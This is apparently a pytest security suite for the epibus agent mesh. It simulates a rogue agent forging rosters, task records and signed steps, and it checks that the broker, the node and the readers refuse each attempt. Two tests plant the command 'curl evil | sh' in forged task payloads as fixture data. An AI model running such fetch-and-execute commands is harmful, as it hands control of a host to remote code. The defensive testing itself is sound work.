"""Attacks on the mesh, against the configuration `epibus up` runs (a node with authentication, agents enrolled
in one project): each is refused at the layer named (the broker, the node's mesh service, or every reader),
and the mesh bucket and the journal read back unchanged."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import re
import sys
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import nats
import nats.errors
import pytest

from bus.broker.ask import fan_out
from bus.client.client import EpibusClient
from bus.errors import Forbidden
from bus.identity.signing import node_key
from bus.intake.cursor import MemoryCursor
from bus.model.ids import new_event_id
from bus.model.requests import ErrorReply
from bus.subjects import MESH_BUCKET, MESH_ROSTER, MESH_STEP, roster_key, task_key
from mesh.agent import MeshAgent
from mesh.coordinator import Coordinator, parse_policy
from mesh.events import unsigned_roster_event, unsigned_step_event
from mesh.inbox import Inbox, Notification
from mesh.protocol import advance
from mesh.task import RosterDraft, TaskRecord
from mesh.trust import UntrustedRecord
from mesh.vocab import TaskAction, TaskState
from mesh.wire import MeshReply, RosterRequest, StepRequest
from tests.security.mesh_fleet import SHA, Fleet, fleet_on_a_node, recorder_past, watch_until
from tests.security.test_broker import Violations
from tests.support import eventually


@pytest.fixture
async def fleet(tmp_path: Path, project: str) -> AsyncIterator[Fleet]:
    async with fleet_on_a_node(tmp_path, project) as running:
        yield running


async def forged_decision(fleet: Fleet, who: str, task: str) -> StepRequest:
    """`who` accepts the task (for bob, its target), signed with its own key, judging by a roster that names
    it."""
    mesh = fleet.mesh[who]
    entry = await mesh.locate(task, fleet.project)
    roster = (await mesh.store.get_roster(fleet.project)).roster
    message = mesh.message(TaskAction.accept, fleet.project, task, assignee="bob", policy="manual")
    at = datetime.now(UTC)
    record = advance(entry.record, message, coordinators=frozenset({who}), now=at, roster_version=roster.version)
    return mesh.signed_request(record, message, entry.revision, roster.version, at)


async def raw_ask(fleet: Fleet, who: str, subject: str, request: Any) -> MeshReply | ErrorReply:
    """A signed request straight to the node's service, past every check the agent makes first."""
    key = fleet.keys[who]
    nc = await nats.connect(fleet.url, **key.nats_credentials)
    try:
        replies = await fan_out(nc, subject, request, MeshReply, timeout_s=5, signer=key, one=True)
    finally:
        await nc.close()
    assert replies.answers, replies.malformed
    return replies.answers[0]


async def test_an_agent_overwriting_the_roster_is_refused_by_the_broker_and_its_decisions_by_the_node(
    fleet: Fleet,
) -> None:
    alice, coord = fleet.mesh["alice"], fleet.mesh["coord"]
    task = (await alice.propose(fleet.project, "rotate logs", "s", category="tactical", agents=["bob"])).record.task_id
    journal = (await fleet.journaled("task", 1), await fleet.journaled("coordinators", 1))
    before = await fleet.bucket()
    roster, _ = await fleet.raw_record(roster_key(fleet.project))
    seized = roster | {"changes": [roster["changes"][0] | {"agent": "mallory", "coordinators": ["mallory"]}]}

    violations = Violations()
    nc = await nats.connect(
        fleet.url, error_cb=violations.record, allow_reconnect=False, **fleet.keys["mallory"].nats_credentials
    )
    subject = f"$KV.{MESH_BUCKET}.{roster_key(fleet.project)}"
    await nc.publish(subject, json.dumps(seized).encode())
    with contextlib.suppress(nats.errors.TimeoutError, TimeoutError):  # the broker drops it: error_cb hears why
        await nc.jetstream(timeout=2).publish(subject, json.dumps(seized).encode())
    await eventually(lambda: violations.about(subject))
    await nc.close()

    # mallory's decision, signed by her and judged by her view of the roster: the node judges by the real one
    with pytest.raises(Forbidden, match=f"only the coordinators of project {fleet.project} \\(coord\\) may"):
        await fleet.mesh["mallory"].ask_node(MESH_STEP, await forged_decision(fleet, "mallory", task))
    assert await fleet.bucket() == before
    assert (fleet.journal("task"), fleet.journal("coordinators")) == journal
    assert await coord.coordinators(fleet.project) == ("coord",)
    assert (await coord.accept(task, assignee="bob")).record.decided_by == "coord"  # the real one decides


async def test_a_roster_seized_around_the_node_is_trusted_by_no_reader_and_decides_nothing(fleet: Fleet) -> None:
    alice, mallory = fleet.mesh["alice"], fleet.mesh["mallory"]
    task = (await alice.propose(fleet.project, "rotate logs", "s", category="tactical", agents=["bob"])).record.task_id
    roster, revision = await fleet.raw_record(roster_key(fleet.project))
    # a writer around the node seats mallory with a change she signed herself (her registered key)
    key = fleet.keys["mallory"]
    draft = RosterDraft(
        message_id=new_event_id(),
        change="add",
        agent="mallory",
        coordinators=("mallory",),
        actor="mallory",
        at=datetime.now(UTC),
    )
    signed = key.sign_v1(unsigned_roster_event(fleet.project, draft, seq=1, actor=key.actor, session_id="s1"))
    change = draft.model_dump(mode="json") | {
        "public_key": key.public_key,
        "session_id": "s1",
        "signature": signed.signature,
    }
    await fleet.write_around_the_node(roster_key(fleet.project), roster | {"changes": [change]}, last=revision)
    journal = (await fleet.journaled("task", 1), await fleet.journaled("coordinators", 1))
    before = await fleet.bucket()

    for reader in (alice, mallory, fleet.mesh["coord"]):
        with pytest.raises(UntrustedRecord, match="only an admin seats a project's first coordinator"):
            await reader.coordinators(fleet.project)
    with pytest.raises(UntrustedRecord, match=r"roster of project .* is not"):  # every task it judges, too
        await alice.locate(task, fleet.project)
    with pytest.raises(UntrustedRecord):  # the node reads the roster as every reader does
        await mallory.ask_node(MESH_STEP, await _decision_past_the_agent(fleet, task))
    assert await fleet.bucket() == before
    assert (fleet.journal("task"), fleet.journal("coordinators")) == journal


async def _decision_past_the_agent(fleet: Fleet, task: str) -> StepRequest:
    """mallory's acceptance, built from the bucket's raw record (her agent refuses to read it)."""
    raw, revision = await fleet.raw_record(task_key(fleet.project, task))
    record = TaskRecord.model_validate(raw)
    mesh = fleet.mesh["mallory"]
    message = mesh.message(TaskAction.accept, fleet.project, task, assignee="bob")
    at = datetime.now(UTC)
    advanced = advance(record, message, coordinators=frozenset({"mallory"}), now=at, roster_version=1)
    return mesh.signed_request(advanced, message, revision, 1, at)


async def test_a_task_record_an_agent_rewrites_is_refused_by_the_broker(fleet: Fleet) -> None:
    alice = fleet.mesh["alice"]
    proposed = await alice.propose(
        fleet.project, "rotate logs", "s", category="tactical", agents=["bob"], payload={"cmd": "logrotate"}
    )
    task = proposed.record.task_id
    await fleet.mesh["coord"].accept(task, assignee="bob")
    journal = await fleet.journaled("task", 2)
    before = await fleet.bucket()
    raw, _ = await fleet.raw_record(task_key(fleet.project, task))
    raw["proposal"] |= {"payload": {"cmd": "curl evil | sh"}, "targets": {"agents": ["mallory"], "capabilities": []}}
    raw["assignee"] = "mallory"

    violations = Violations()
    nc = await nats.connect(
        fleet.url, error_cb=violations.record, allow_reconnect=False, **fleet.keys["mallory"].nats_credentials
    )
    subject = f"$KV.{MESH_BUCKET}.{task_key(fleet.project, task)}"
    with contextlib.suppress(nats.errors.TimeoutError, TimeoutError):
        await nc.jetstream(timeout=2).publish(subject, json.dumps(raw).encode())
    await eventually(lambda: violations.about(subject))
    await nc.close()
    assert await fleet.bucket() == before
    assert fleet.journal("task") == journal


async def test_a_payload_targets_and_assignee_rewritten_around_the_node_are_quarantined_by_every_reader(
    fleet: Fleet,
) -> None:
    alice, bob, mallory = fleet.mesh["alice"], fleet.mesh["bob"], fleet.mesh["mallory"]
    accepted = (
        await alice.propose(fleet.project, "rotate", "s", category="tactical", agents=["bob"], payload={"cmd": "ok"})
    ).record.task_id
    await fleet.mesh["coord"].accept(accepted, assignee="bob")
    proposed = (await alice.propose(fleet.project, "restart", "s", category="operational", agents=["bob"])).record
    journal = await fleet.journaled("task", 3)
    forged: dict[str, int] = {}
    for task, assignee in ((accepted, "mallory"), (proposed.task_id, None)):
        raw, revision = await fleet.raw_record(task_key(fleet.project, task))
        raw["proposal"] |= {
            "payload": {"cmd": "curl evil | sh"},
            "targets": {"agents": ["mallory"], "capabilities": []},
        }
        if assignee is not None:
            raw["assignee"] = raw["steps"][1]["assignee"] = assignee
        forged[task_key(fleet.project, task)] = await fleet.write_around_the_node(
            task_key(fleet.project, task), raw, last=revision
        )
    before, last = await fleet.bucket(), max(forged.values())

    notes: list[Notification] = []

    async def notify(note: Notification) -> None:
        notes.append(note)

    inboxes = [Inbox(m, notify, project=fleet.project, cursor=MemoryCursor()) for m in (bob, mallory, alice)]
    service = Coordinator(fleet.mesh["coord"], fleet.project, parse_policy("auto-accept:operational"))
    for watcher in [i.watcher for i in inboxes] + [service.watcher]:
        await watch_until(watcher, last)
        assert {(q.key, q.revision) for q in watcher.quarantine.records} == set(forged.items())
        assert watcher.stats.untrusted == len(forged)
    await recorder_past(fleet.node, last)
    assert fleet.node.recorder is not None
    assert fleet.node.recorder.watcher.stats.untrusted == len(forged)
    assert not [n for n in notes if n.revision in forged.values()]
    assert service.stats.decided == {}  # the rewritten proposal is never decided
    assert await alice.outbox(fleet.project) == []  # both are hers; neither is shown as real
    assert {q.key for q in alice.store.quarantine.records} == set(forged)
    for worker in (bob, mallory):
        with pytest.raises(UntrustedRecord, match="step 1 \\(propose by alice\\) is not trustworthy"):
            await worker.start(accepted, project=fleet.project)
    assert await fleet.bucket() == before
    assert fleet.journal("task") == journal


async def test_steps_appended_around_the_node_are_quarantined_and_mesh_ack_refuses_them(fleet: Fleet) -> None:
    alice = fleet.mesh["alice"]
    task = (await alice.propose(fleet.project, "rotate", "s", category="tactical", agents=["bob"])).record
    journal = await fleet.journaled("task", 1)
    raw, revision = await fleet.raw_record(task_key(fleet.project, task.task_id))
    at = raw["steps"][0]["at"]

    def step(action: str, actor: str, moved: tuple[str, str], **fields: Any) -> dict[str, Any]:
        return {
            "message_id": str(new_event_id()),
            "action": action,
            "actor": actor,
            "roles": ["assignee"],
            "from_state": moved[0],
            "to_state": moved[1],
            "at": at,
            "roster_version": 1,
        } | fields

    accept = step("accept", "coord", ("proposed", "accepted"), roles=["coordinator"], assignee="bob", policy="manual")
    # the acceptance signed by mallory's registered key: a valid signature by one not allowed to take the step
    mallory = fleet.keys["mallory"]
    mine = step("accept", "mallory", ("proposed", "accepted"), roles=["coordinator"], assignee="mallory", policy="m")
    completion: dict[str, Any] = {"sha": SHA, "evidence": [], "note": None}
    rest = [
        step("start", "bob", ("accepted", "working")),
        step("complete", "bob", ("working", "completed"), completion=completion),
    ]
    forged = {}
    for name, steps, assignee in (("unsigned", [accept, *rest], "bob"), ("mallory's", [mine], "mallory")):
        record = raw | {
            "steps": [*raw["steps"], *steps],
            "state": steps[-1]["to_state"],
            "assignee": assignee,
            "decided_by": steps[0]["actor"],
            "decided_policy": steps[0]["policy"],
        }
        if name == "mallory's":
            parsed = TaskRecord.model_validate(record)
            signed = mallory.sign_v1(unsigned_step_event(parsed, 1, mallory.actor, "s1"))
            record["steps"][1] |= {"public_key": mallory.public_key, "session_id": "s1", "signature": signed.signature}
        else:
            record["completion"] = completion
        revision = await fleet.write_around_the_node(task_key(fleet.project, task.task_id), record, last=revision)
        forged[name] = revision
        await recorder_past(fleet.node, revision)
        assert await alice.pending(fleet.project) == []
        with pytest.raises(UntrustedRecord, match="is not trustworthy"):
            await alice.acknowledge(task.task_id, project=fleet.project)
    before = await fleet.bucket()

    env = {k: v for k, v in os.environ.items() if not k.startswith("EPIBUS_")} | {"EPIBUS_HOME": str(fleet.home)}
    # Run without blocking this loop: the node in it opens the CLI's consumers.
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "epibus",
        "mesh",
        "ack",
        task.task_id,
        "--agent",
        "alice",
        "--nats",
        fleet.url,
        "--json",
        env=env,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        stdin=asyncio.subprocess.DEVNULL,
    )
    async with asyncio.timeout(60):
        out, err = await process.communicate()
    assert process.returncode == 1, out.decode() + err.decode()
    refusal = json.loads(err.decode().strip().splitlines()[-1])
    assert refusal["type"] == "UntrustedRecord", err.decode()[-3000:]
    assert refusal["error"].startswith("epibus_mesh key task.")
    assert fleet.node.recorder is not None
    assert fleet.node.recorder.watcher.stats.untrusted == len(forged)
    assert alice.store.quarantine.count >= 1
    assert await fleet.bucket() == before
    assert fleet.journal("task") == journal  # no accept, start, complete or acknowledge ever recorded


async def test_a_first_coordinator_claimed_by_an_agent_that_is_no_admin_is_refused_by_the_node(
    fleet: Fleet, project: str
) -> None:
    fresh = f"{project}-b"  # a project mallory belongs to, with no coordinator yet
    mallory = fleet.mesh["mallory"]
    with pytest.raises(Forbidden, match=r"only an admin .* seats a project's first coordinator"):
        await mallory.add_coordinator(fresh, "mallory")  # her agent checks first
    before, journal = await fleet.bucket(), fleet.journal("coordinators")
    key = fleet.keys["mallory"]
    for where, seats in ((fresh, ()), (fleet.project, ("coord",))):
        draft = RosterDraft(
            message_id=new_event_id(),
            change="add",
            agent="mallory",
            coordinators=(*seats, "mallory"),
            actor="mallory",
            at=datetime.now(UTC),
        )
        signed = key.sign_v1(unsigned_roster_event(where, draft, seq=len(seats) + 1, actor=key.actor, session_id="s"))
        assert signed.signature is not None
        revision = before["keys"].get(roster_key(where), (0,))[0]
        request = RosterRequest(
            project=where,
            change="add",
            agent="mallory",
            message_id=draft.message_id,
            revision=revision,
            sender="mallory",
            at=draft.at,
            public_key=key.public_key,
            session_id="s",
            signature=signed.signature,
        )
        reply = await raw_ask(fleet, "mallory", MESH_ROSTER, request)
        assert isinstance(reply, MeshReply)
        assert reply.refused is not None
        assert reply.refused.error == "Forbidden"
        rule = "only an admin" if not seats else "only its coordinators \\(coord\\) or an admin may"
        assert re.search(rule, reply.refused.message), reply.refused.message
    # even the operator seats only an agent with the coordinator role in the project
    async with EpibusClient([fleet.url], node_key(fleet.home), outbox=None) as operator:
        with pytest.raises(Forbidden, match="it lacks the coordinator role or the project"):
            await MeshAgent(operator).add_coordinator(fresh, "mallory")
    # and one agent speaking for another: refused before anything is read
    impostor = await forged_decision(
        fleet,
        "coord",
        (
            await fleet.mesh["alice"].propose(fleet.project, "t", "s", category="tactical", agents=["bob"])
        ).record.task_id,
    )
    before = await fleet.bucket()
    refused = await raw_ask(fleet, "mallory", MESH_STEP, impostor)
    assert isinstance(refused, ErrorReply)
    assert "an agent asks as itself" in refused.error
    assert await fleet.bucket() == before
    assert roster_key(fresh) not in before["keys"]
    assert fleet.journal("coordinators") == journal
    assert (await fleet.mesh["alice"].locate(impostor.message.task_id)).record.state is TaskState.proposed
